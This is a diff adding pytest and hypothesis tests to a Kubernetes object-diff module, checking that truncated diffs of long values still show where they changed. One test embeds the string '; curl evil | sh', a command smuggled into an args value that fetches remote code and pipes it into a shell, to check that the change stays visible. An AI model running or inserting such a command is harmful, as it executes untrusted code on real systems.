@@ -5,6 +5,8 @@ from __future__ import annotations
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from l7gw.kube.object_diff import MOST_LINES, changes, encoded, lines_of, unified
 
@@ -72,3 +74,31 @@ def test_a_diff_is_cut_at_its_length() -> None:
     long = unified({}, {"a": "x" * 5000}, 64000)
     assert "5000 characters" in long and len(long) < 1000
     assert "too many" in unified({}, {str(number): 1 for number in range(MOST_LINES + 1)}, 64000)
+
+
+@pytest.mark.parametrize("around", ["{}", "first line\n{}\nlast", " {}"])
+def test_a_change_behind_the_beginning_of_a_long_value_is_shown(around: str) -> None:
+    before, after = (around.format("x" * 600 + words + "y" * 600) for words in ("; echo done", "; curl evil | sh"))
+    shown = unified({"args": [before], "same": "z" * 700}, {"args": [after], "same": "z" * 700}, 64000)
+    (gone,), (come,) = ([line for line in shown.split("\n") if line[0] == sign] for sign in "-+")
+    assert "…xxx" in gone and "x; echo done" in gone and "y… (" in gone and "echo" not in come
+    assert "…xxx" in come and "x; curl evil | sh" in come and "y… (" in come and len(come) < 250
+
+
+def test_of_long_values_that_differ_at_many_places_much_is_shown_and_how_long_they_are() -> None:
+    before, after = ("a" * 100 + word + "b" * 1000 + word + "c" * 9000 + word for word in ("one", "two"))
+    shown = unified({"k": before}, {"k": after}, 64000)
+    assert shown.count("one") == 2 and shown.count("two") == 2 and shown.count("(10109 characters)") == 2
+    assert shown.count("…") == 4 and 2 * 4000 < len(shown) < 2 * 4200
+
+
+@given(
+    st.lists(st.sampled_from(["x" * 500, "ab", "\n", "y"]), max_size=6),
+    st.lists(st.sampled_from(["x" * 500, "ab", "\n", "y"]), max_size=6),
+)
+def test_whatever_differs_within_what_is_shown_of_a_change_the_diff_shows_it(one: list[str], other: list[str]) -> None:
+    before, after = ({"k": "".join(parts), "n": 1} for parts in (one, other))
+    assert (unified(before, after, 64000) == "") == (before == after)
+    gone = [line[1:] for line in unified(before, after, 64000).split("\n") if line[:1] == "-"]
+    come = [line[1:] for line in unified(before, after, 64000).split("\n") if line[:1] == "+"]
+    assert before == after or gone != come
